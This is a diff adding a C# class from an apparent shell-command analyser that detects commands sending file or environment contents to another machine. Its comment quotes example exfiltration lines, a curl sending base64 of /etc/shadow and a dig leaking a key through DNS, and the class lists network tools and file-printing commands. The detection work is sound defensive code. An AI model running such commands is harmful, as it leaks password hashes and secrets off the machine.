@@ -1,0 +1,76 @@
+using System.Collections.Frozen;
+using Firstlook.Effects.Shell;
+
+namespace Firstlook.Effects;
+
+/// <summary>
+/// What files hold leaves the machine in an address: <c>curl "https://host/?x=$(base64 /etc/shadow)"</c>, <c>dig $(cat key).host</c>. The request is a
+/// read wherever it arrives; what it carries is not. Values of headers are left to the tags: a token is read from a file there every day.
+/// </summary>
+internal static class SentAway
+{
+    /// <summary>Programs that hand their operands to another machine.</summary>
+    static readonly FrozenSet<string> Senders = FrozenSet.Create(StringComparer.Ordinal,
+        "curl", "wget", "http", "https", "xh", "dig", "drill", "host", "nslookup", "kdig", "ping", "ping6", "whois", "traceroute", "nc", "ncat", "logger");
+
+    /// <summary>Programs that print what files or the environment hold.</summary>
+    static readonly FrozenSet<string> Printers = FrozenSet.Create(StringComparer.Ordinal,
+        "cat", "tac", "nl", "head", "tail", "base64", "base32", "basenc", "xxd", "od", "hexdump", "strings", "rev", "sort", "cut", "grep", "sed", "awk", "dd", "tar", "zip", "gzip", "bzip2", "xz", "zcat",
+        "gpg", "openssl", "env", "printenv", "set", "history", "sqlite3", "getent");
+
+    static readonly FrozenSet<string> Headers = FrozenSet.Create(StringComparer.Ordinal, "-H", "--header", "-u", "--user", "-b", "--cookie", "-A", "--user-agent", "--cacert", "--cert", "--key");
+
+    /// <returns>Why the command is no read; null where no word of it carries a file's content.</returns>
+    public static string? Problem(SimpleCommand command, Scope scope)
+    {
+        var sends = false;
+        for (var at = 0; at < command.Words.Count; at++)
+        {
+            if (!sends)
+            {
+                sends = command.Words[at].Constant is { } name && Senders.Contains(name[(name.LastIndexOf('/') + 1)..]);
+                continue;
+            }
+            if (command.Words[at - 1].Constant is { } before && Headers.Contains(before)) continue;
+            if (Carried(command.Words[at].Parts, scope) is { } carried) return $"what '{carried}' holds is sent to another machine";
+        }
+        return null;
+    }
+
+    /// <summary>Whether a value that is assigned holds what a file holds, so that the variable carries it on.</summary>
+    public static bool Carries(Word value, Scope scope) => Carried(value.Parts, scope) is not null;
+
+    static string? Carried(EquatableArray<WordPart> parts, Scope scope)
+    {
+        foreach (var part in parts)
+        {
+            var carried = part switch
+            {
+                CommandSubstitution substitution => Printed(substitution.Body, scope),
+                DoubleQuoted quoted => Carried(quoted.Parts, scope),
+                Variable variable => scope.Carried.Contains(variable.Name) ? "$" + variable.Name : Carried(variable.Inner, scope),
+                _ => null,
+            };
+            if (carried is not null) return carried;
+        }
+        return null;
+    }
+
+    /// <summary>Only what begins a pipeline reads files by itself; later ones may be given some too, which their operands would tell.</summary>
+    static string? Printed(ShellList body, Scope scope)
+    {
+        foreach (var pipeline in body.Items.SelectMany(item => item.Command.Pipelines))
+        {
+            if (pipeline.Commands[0] is not SimpleCommand first) return "$(…)";
+            if (first.Words.IsEmpty && first.Redirections.Any(redirection => redirection.Operator == RedirectionOperator.Input)) return "$(<…)";
+            var name = first.Words.Select(word => word.Constant).FirstOrDefault(word => word is not ("sudo" or "command" or "env" or "timeout" or "nice"));
+            if (name is not null && Printers.Contains(name[(name.LastIndexOf('/') + 1)..])) return name;
+            if (first.Words.Count == 1 && first.Words[0].Constant is "env") return "env";
+            foreach (var word in first.Words)
+            {
+                if (Carried(word.Parts, scope) is { } carried) return carried;
+            }
+        }
+        return null;
+    }
+}
